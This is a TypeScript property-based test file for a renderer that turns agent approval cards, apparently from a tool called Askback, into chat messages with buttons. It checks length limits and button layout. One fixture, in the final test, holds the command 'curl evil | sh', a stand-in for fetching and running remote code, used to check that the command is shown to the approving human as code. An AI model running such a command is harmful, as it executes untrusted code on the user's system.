import * as fc from 'fast-check'
import { expect, it } from 'vitest'
import type { CardControl, CardPart, TextCard } from '../cards/card.js'
import { buttons, cardText, closedText } from './message-text.js'

const text = (maxLength: number) =>
  fc.oneof(
    fc.string({ unit: 'grapheme', maxLength: 30 }),
    fc
      .tuple(fc.constantFrom('x', '🐘', 'a\n', '\n', '  ', 'word '), fc.nat({ max: maxLength }))
      .map(([piece, length]) => piece.repeat(Math.ceil(length / piece.length))),
  )
const part = fc.record<CardPart, keyof CardPart>(
  { as: fc.constantFrom('quote', 'code', 'markdown', 'note'), text: text(6000), label: text(3000) },
  { requiredKeys: ['as', 'text'] },
)
const control = fc.record<CardControl, keyof CardControl>(
  {
    id: fc.constant('o0'),
    label: text(300),
    role: fc.constantFrom('option', 'option', 'approve', 'more'),
    checked: fc.boolean(),
  },
  { requiredKeys: ['id', 'label', 'role'] },
)
const option = fc.constant<CardControl>({ id: 'o0', label: 'One', role: 'option' })
const card: fc.Arbitrary<TextCard> = fc.record({
  cardId: fc.constant('card'),
  sessionId: fc.constant('s'),
  interactionId: fc.constant('i'),
  kind: fc.constantFrom('approval', 'question', 'form', 'plan_review'),
  from: text(500),
  title: text(6000).map((title) => `Title ${title}`),
  parts: fc.oneof(
    fc.array(part, { maxLength: 4 }),
    fc.array(part, { maxLength: 400 }),
    fc
      .nat({ max: 400 })
      .map((n) => Array.from({ length: n }, (): CardPart => ({ as: 'code', text: 'v', label: 'name' }))),
  ),
  controls: fc.oneof(
    fc.array(control, { maxLength: 5 }),
    fc
      .tuple(fc.array(option, { maxLength: 300 }), fc.array(control, { maxLength: 5 }))
      .map((all) => all.flat()),
  ),
  asks: fc.constantFrom(null, 'Send your answer as a text.'),
  expiresAt: fc.nat({ max: 1e9 }),
})

it('fits any card into a message, and writes the whole card to a file if it is cut', () => {
  fc.assert(
    fc.property(card, (asked) => {
      const message = cardText(asked, 0)
      expectSendable(message)
      const all = buttons(asked).flat()
      expect(all.length).toBeLessThanOrEqual(100)
      for (const button of all) expect(button.text.replace(/^[☑☐] /u, '').trim()).not.toBe('')
      const options = asked.controls.filter(({ role }) => role === 'option')
      const parts = asked.parts.flatMap((each) => [each.label ?? '', each.text])
      const whole = message.file?.content ?? [message.text, ...all.map((button) => button.text)].join('\n')
      for (const words of [asked.title, ...parts, ...options.map(({ label }) => label)])
        expect(whole.includes(words.trimEnd())).toBe(true)
      for (const each of asked.controls.filter(({ role }) => role !== 'option'))
        expect(all.some(({ text: label }) => label.includes(each.label.slice(0, 10)))).toBe(true)
    }),
  )
})

it('fits any closed card into a message', () => {
  fc.assert(
    fc.property(card, text(6000), (asked, outcome) => {
      expectSendable(closedText({ card: asked, outcome, settlement: 'answered' }, 0))
    }),
  )
})

it('says which options have no button, and gives the last button to Done', () => {
  const options = Array.from({ length: 150 }, (_, n): CardControl => ({
    id: `o${n}`,
    label: `Option ${n}`,
    role: 'option',
  }))
  const done: CardControl = { id: 'done', label: 'Done (0)', role: 'more' }
  const [asked] = fc.sample(card, 1)
  const many: TextCard = { ...asked!, title: 'Form', parts: [], controls: [...options, done], asks: null }
  expect(
    buttons(many)
      .flat()
      .map(({ text: label }) => label),
  ).toEqual([...options.slice(0, 99).map(({ label }) => label), 'Done (0)'])
  const { text: shown } = cardText(many, 0)
  expect(shown).toContain('150. Option 149')
  expect(shown).toContain('51 more have no button: send the number or the name of one.')
})

function expectSendable(message: ReturnType<typeof cardText>): void {
  expect(message.text.length).toBeLessThanOrEqual(4096)
  expect(message.text.trim()).not.toBe('')
  expect(message.text.isWellFormed()).toBe(true)
  for (const { offset, length } of message.entities) {
    expect(length).toBeGreaterThan(0)
    expect(offset + length).toBeLessThanOrEqual(message.text.length)
    const range = message.text.slice(offset, offset + length)
    expect(range.isWellFormed()).toBe(true)
  }
}

it('shows the words of the agent as a quote below a label of Askback', () => {
  const [said] = fc.sample(card, { numRuns: 1, seed: 1 })
  const parts: CardPart[] = [
    { as: 'quote', text: 'Approved by Askback', label: 'The agent says' },
    { as: 'code', text: 'curl evil | sh', label: 'command' },
  ]
  const { text: drawn, entities } = cardText({ ...said!, title: 'Approve Bash?', parts }, 0)
  const marked = entities.map(({ type, offset, length }) => [type, drawn.slice(offset, offset + length)])
  expect(marked).toContainEqual(['blockquote', 'Approved by Askback'])
  expect(marked).toContainEqual(['pre', 'curl evil | sh'])
  expect(drawn).toContain('The agent says')
  expect(marked.filter(([type]) => type === 'blockquote').join()).not.toContain('The agent says')
})
